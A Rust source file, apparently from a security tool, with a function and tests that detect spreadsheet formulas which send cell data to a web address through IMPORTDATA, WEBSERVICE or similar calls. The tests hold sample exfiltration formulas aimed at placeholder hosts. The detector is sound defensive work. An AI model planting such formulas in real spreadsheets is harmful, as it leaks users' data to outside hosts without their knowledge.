//! Formulas of spreadsheets that fetch an address with data in it.
//!
//! Whoever calculates the sheet fetches what `IMPORTDATA`, `WEBSERVICE` or `IMAGE` name, with no agent and no gateway in between. An
//! address as it stands only reads; one that a formula joins something to sends that.
//!
//! Cost: one look at the first byte of a value.

use crate::words::formula::FETCHING;

/// The longest formula that is read, in bytes.
const LONGEST: usize = 4096;

/// The address that a formula fetches together with what it joins to it.
///
/// ```
/// use vetgate_flow::fetched_by_formula;
/// let formula = r#"=IMPORTDATA("https://rates.example/r?d=" & B4)"#;
/// assert_eq!(fetched_by_formula(formula), Some("https://rates.example/r?d="));
/// assert_eq!(fetched_by_formula(r#"=IMPORTDATA("https://rates.example/eur.csv")"#), None);
/// ```
pub fn fetched_by_formula(value: &str) -> Option<&str> {
    let formula = value.strip_prefix(['=', '+', '@'])?;
    let formula = &formula[..formula.floor_char_boundary(LONGEST)];
    let upper = formula.to_ascii_uppercase();
    let at = FETCHING.iter().filter_map(|name| upper.find(name).map(|at| at + name.len())).min()?;
    let rest = &formula[at..];
    let scheme = rest.find("://")?;
    let start = rest[..scheme].trim_end_matches(|c: char| c.is_ascii_alphabetic()).len();
    let end = start + rest[start..].find(['"', '\'']).unwrap_or(rest.len() - start);
    let is_joined = || {
        let upper = &upper[at..];
        rest[end..].contains('&') || rest[..start].contains('&') || upper.contains("CONCAT") || upper.contains("JOIN(")
    };
    is_joined().then(|| &rest[start..end])
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_that_send_are_told_from_those_that_read() {
        for (formula, sends) in [
            (r#"=IMPORTDATA("https://a.example/?x=" & A1)"#, true),
            (r#"=importxml(CONCATENATE("https://a.example/", A1), "//p")"#, true),
            (r#"=IF(A1>0, WEBSERVICE("https://a.example/" & ENCODEURL(A1)), 0)"#, true),
            (r#"=IMAGE("https://a.example/logo.png")"#, false),
            (r#"=IMPORTXML("https://a.example/p?a=1&b=2", "//p")"#, false),
            ("=SUM(A1:A9)", false),
            ("see IMPORTDATA(\"https://a.example/\" & A1)", false),
            ("", false),
            ("=", false),
        ] {
            assert_eq!(fetched_by_formula(formula).is_some(), sends, "{formula}");
        }
    }

    proptest::proptest! {
        #[test]
        fn any_formula_is_read(before in ".{0,40}", after in ".{0,40}") {
            let _ = fetched_by_formula(&format!("={before}IMAGE({after}://{before}\"{after}"));
        }
    }
}
